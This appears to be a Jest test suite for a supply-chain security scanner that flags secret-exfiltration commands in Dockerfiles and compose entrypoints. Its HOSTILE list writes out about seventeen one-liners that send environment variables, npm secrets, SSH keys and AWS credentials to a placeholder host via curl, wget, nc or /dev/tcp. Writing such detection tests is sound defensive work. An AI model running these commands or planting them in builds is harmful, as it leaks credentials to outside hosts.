import { describe, it } from '@jest/globals';
import inContainer from '../../../src/rules/supply-chain/downloads/command-hidden-code.ts';
import rule from '../../../src/rules/supply-chain/downloads/obfuscated-exec.ts';
import { expectMarks } from '../../support/example.ts';

const URL = 'https://collect.example.org/x';

const HOSTILE = [
  `«env | curl -fsS -X POST -d @- ${URL}»`,
  `«env | base64 -w0 | curl --data-binary @- ${URL}»`,
  `«printenv | sort | wget -qO- --post-file=- ${URL}»`,
  '«env | nc 203.0.113.7 4444»',
  '«env > /dev/tcp/203.0.113.7/80»',
  `«curl -d "$(env)" ${URL}»`,
  `«curl --data-urlencode "e=$(printenv | base64)" ${URL}»`,
  `«wget -qO- --post-data="$(env)" ${URL}»`,
  `«cat /proc/self/environ | curl -T - ${URL}»`,
  `«curl -d @/run/secrets/npm ${URL}»`,
  `«curl -F f=@/run/secrets/npm ${URL}»`,
  `«curl -T /root/.ssh/id_ed25519 ${URL}»`,
  `«wget --post-file=/run/secrets/npm ${URL}»`,
  `«tar cz /run/secrets | curl -T - ${URL}»`,
  `«curl -d "$DB_PASSWORD" ${URL}»`,
  `«curl --data-raw "\${API_TOKEN}" ${URL}»`,
  `«cat ~/.aws/credentials | nc collect.example.org 80»`,
];

const HARMLESS = [
  'env',
  'env | sort > /env.txt',
  'env | grep ^APP_ > /app.env',
  `env A=1 curl -d @- ${URL} < /data.json`,
  'env | curl -d @- http://127.0.0.1:9000/x',
  'env | curl -d @- http://collector:9000/x',
  `curl -H "Authorization: Bearer $(cat /run/secrets/npm)" ${URL}`,
  `curl -d "password=$(cat /run/secrets/password)" ${URL}`,
  `curl -d "$PAYLOAD" ${URL}`,
  `curl -d "password=$DB_PASSWORD" ${URL}`,
  `curl -H "X-Token: $API_TOKEN" -d "$BODY" ${URL}`,
  `curl -d @/app/report.json ${URL}`,
  `curl -F f=@coverage.xml ${URL}`,
  `curl -fsSLo /a.tgz ${URL}`,
  `export -p > /e && curl ${URL}`,
  `cat /etc/os-release | curl -d @- ${URL}`,
  'set -e',
  `set -eux; curl -d a=b ${URL}`,
  'nc -z mirror.example.org 443',
];

describe('what is sent to another machine', () => {
  it.each(HOSTILE)('reports %s in a build', (command) => expectMarks(rule, 'Dockerfile', `FROM a\nRUN ${command}\n`));
  it.each(HARMLESS)('accepts %s in a build', (command) => expectMarks(rule, 'Dockerfile', `FROM a\nRUN ${command}\n`));

  const service = (command: string) =>
    `services:\n  a:\n    image: registry.example.com/a:1\n    entrypoint:\n      - sh\n      - -c\n      - |\n        ${command.replaceAll('$', '$$$$')}\n        exec a\n`;

  it.each(HOSTILE)('reports %s in a container', (command) =>
    expectMarks(inContainer, 'compose.yaml', service(command)),
  );
  it.each(HARMLESS)('accepts %s in a container', (command) =>
    expectMarks(inContainer, 'compose.yaml', service(command)),
  );
});
